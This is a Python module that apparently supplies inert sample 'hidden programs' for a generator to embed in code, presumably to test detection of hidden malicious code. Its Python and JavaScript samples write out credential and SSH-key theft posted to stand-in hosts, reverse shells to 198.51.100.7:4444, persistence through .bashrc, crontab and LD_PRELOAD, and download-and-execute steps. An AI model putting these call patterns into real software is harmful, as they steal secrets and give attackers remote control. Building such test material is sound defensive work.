# SPDX-License-Identifier: Apache-2.0
"""The inert programs that the generator hides: 3 to 8 calls each, all arguments constant. Nothing here is ever carried out:
the runners put recorders in the place of what is called."""
from program import Code, Int, Ref, Str, call, code, commas


def value(v):
    """A Python value as a node."""
    if isinstance(v, bool) or v is None:
        return Code([repr(v)])
    if isinstance(v, str):
        return Str(v)
    if isinstance(v, int):
        return Int(v)
    if isinstance(v, list):
        return code("[", *commas([value(x) for x in v]), "]")
    if isinstance(v, tuple):
        return code("(", *commas([value(x) for x in v]), ",)")
    if isinstance(v, dict):
        return code("{", *commas([code(value(k), ": ", value(x)) for k, x in v.items()]), "}")
    return v


def js(v):
    if isinstance(v, bool):
        return Code(["true" if v else "false"])
    if v is None:
        return Code(["null"])
    if isinstance(v, tuple):
        v = list(v)
    if isinstance(v, list):
        return code("[", *commas([js(x) for x in v]), "]")
    if isinstance(v, dict):
        return code("{", *commas([code(k + ": ", js(x)) for k, x in v.items()]), "}")
    return value(v) if isinstance(v, (str, int)) else v


def p(path, *args, **names):
    return call(Ref(tuple(path.split("."))), [value(a) for a in args], **{k: value(v) for k, v in names.items()})


def then(node, member, *args):
    return call(code(node, "." + member), [value(a) for a in args])


def env(name):
    return code(Ref(("os", "environ")), "[", Str(name), "]")


def j(path, *args):
    return call(Ref(tuple(path.split("."))), [js(a) for a in args])


def jthen(node, member, *args):
    return call(code(node, "." + member), [js(a) for a in args])


def jenv(name):
    return code(Ref(("process", "env")), "[", Str(name), "]")


PYTHON = {
    "shell": lambda: [p("os.system", "uname -a > /tmp/out.txt"), p("subprocess.run", ["curl", "-s", "http://c2.example/a"], shell=False),
                      p("os.popen", "whoami"), then(p("open", "/tmp/.cache", "w"), "write", "done")],
    "post": lambda: [p("requests.post", "https://collect.example/in", data=env("API_TOKEN")), p("requests.get", "https://next.example/stage2", timeout=7),
                     p("os.remove", "/tmp/trace.log"), p("os.getenv", "HOME"), p("subprocess.call", "id; hostname", shell=True)],
    "reverse": lambda: [p("socket.create_connection", ("198.51.100.7", 4444)), p("os.dup2", 3, 0), p("os.dup2", 3, 1),
                        p("subprocess.call", ["/bin/sh", "-i"])],
    "connect": lambda: [then(p("socket.socket", 2, 1), "connect", ("203.0.113.9", 9001)), p("platform.node"), p("getpass.getuser"),
                        p("urllib.request.urlopen", "http://203.0.113.9/report?x=1")],
    "steal": lambda: [p("shutil.copyfile", "/home/u/.ssh/id_rsa", "/tmp/k"), p("open", "/home/u/.aws/credentials"), p("requests.post", "https://drop.example/up",
                      json={"k": env("AWS_SECRET_ACCESS_KEY"), "id": 31}), p("os.unlink", "/tmp/k"), p("os.listdir", "/home/u/.config"),
                      p("glob.glob", "/home/u/*.wallet")],
    "persist": lambda: [p("os.makedirs", "/home/u/.config/systemd/user", exist_ok=True), then(p("open", "/home/u/.bashrc", "a"), "write", "python3 /tmp/.x &\n"),
                        p("os.chmod", "/tmp/.x", 493), p("subprocess.Popen", ["crontab", "/tmp/c"], stdout=None), p("os.putenv", "LD_PRELOAD", "/tmp/a.so")],
    "download": lambda: [p("urllib.request.urlretrieve", "http://files.example/p.bin", "/tmp/p.bin"), p("os.chmod", "/tmp/p.bin", 511),
                         p("os.startfile", "/tmp/p.bin"), p("time.sleep", 30)],
    "ftp": lambda: [p("ftplib.FTP", "ftp.example", "anon", "pass word"), p("smtplib.SMTP", "mail.example", 25), p("http.client.HTTPSConnection", "h.example", 8443),
                    p("webbrowser.open", "https://ad.example/?q=\u00e9t\u00e9"), p("ctypes.CDLL", "/tmp/l.so"), p("os.execv", "/bin/ls", ["ls", "-l"]),
                    p("os.kill", 4242, 9), p("shutil.rmtree", "/tmp/work dir")],
}
JAVASCRIPT = {
    "shell": lambda: [j("child_process.exec", "uname -a > /tmp/out.txt"), j("child_process.execSync", "whoami", {"stdio": "ignore"}),
                      j("fs.writeFileSync", "/tmp/.cache", "done"), j("os.hostname")],
    "post": lambda: [j("globalThis.fetch", "https://collect.example/in", {"method": "POST", "body": jenv("NPM_TOKEN")}), j("fs.unlinkSync", "/tmp/trace.log"),
                     j("fs.readFileSync", "/home/u/.npmrc", "utf8"), j("os.userInfo"), j("child_process.spawn", "sh", ["-c", "id; hostname"])],
    "reverse": lambda: [j("net.connect", 4444, "198.51.100.7"), j("child_process.spawn", "/bin/sh", ["-i"]), j("os.platform"),
                        j("dns.lookup", "a.example")],
    "request": lambda: [j("https.request", "https://drop.example/up", {"method": "PUT"}), j("http.get", "http://203.0.113.9/report?x=1"), j("fs.readdirSync", "/home/u/.ssh"),
                        j("fs.readFileSync", "/home/u/.ssh/id_rsa"), j("os.networkInterfaces")],
    "persist": lambda: [j("fs.mkdirSync", "/home/u/.config/autostart", {"recursive": True}), j("fs.appendFileSync", "/home/u/.bashrc", "node /tmp/.x &\n"),
                        j("fs.chmodSync", "/tmp/.x", 493), j("child_process.execFile", "/usr/bin/crontab", ["/tmp/c"])],
    "wallet": lambda: [j("fs.existsSync", "/home/u/.electrum/wallets"), j("fs.copyFileSync", "/home/u/a.wallet", "/tmp/w"),
                       j("globalThis.fetch", "https://h.example/?q=\u00e9t\u00e9"), j("fs.rmSync", "/tmp/w", {"force": True}), j("process.chdir", "/tmp"), j("process.kill", 4242, 9)],
    "download": lambda: [j("http.get", "http://files.example/p.bin"), j("fs.createWriteStream", "/tmp/p.bin"), j("fs.chmodSync", "/tmp/p.bin", 511),
                         j("child_process.fork", "/tmp/p.js")],
    "token": lambda: [j("fs.writeFileSync", "/tmp/env.txt", jenv("GITHUB_TOKEN")), j("https.get", "https://api.example/v1/me", {"timeout": 3000}),
                      j("os.homedir"), j("dns.resolve", "x.y.example", "TXT"), j("child_process.exec", "ls -la /root"), j("fs.rename", "/tmp/a b", "/tmp/c")],
}
PROGRAMS = {"python": PYTHON, "javascript": JAVASCRIPT}
ENVIRONMENT = {"API_TOKEN": "value-of-API_TOKEN", "AWS_SECRET_ACCESS_KEY": "value-of-AWS", "NPM_TOKEN": "value-of-NPM_TOKEN",
               "GITHUB_TOKEN": "value-of-GITHUB", "HOME": "/home/u", "PATH": "/usr/bin:/bin", "LC_ALL": "C.UTF-8"}


def names(language):
    """Every name that a program calls."""
    found = set()
    for make in PROGRAMS[language].values():
        todo = make()
        while todo:
            n = todo.pop()
            if isinstance(n, Ref):
                found.add(n.value)
            elif isinstance(n, Code):
                todo += [x for x in n.value if not isinstance(x, str)]
    return sorted(found)
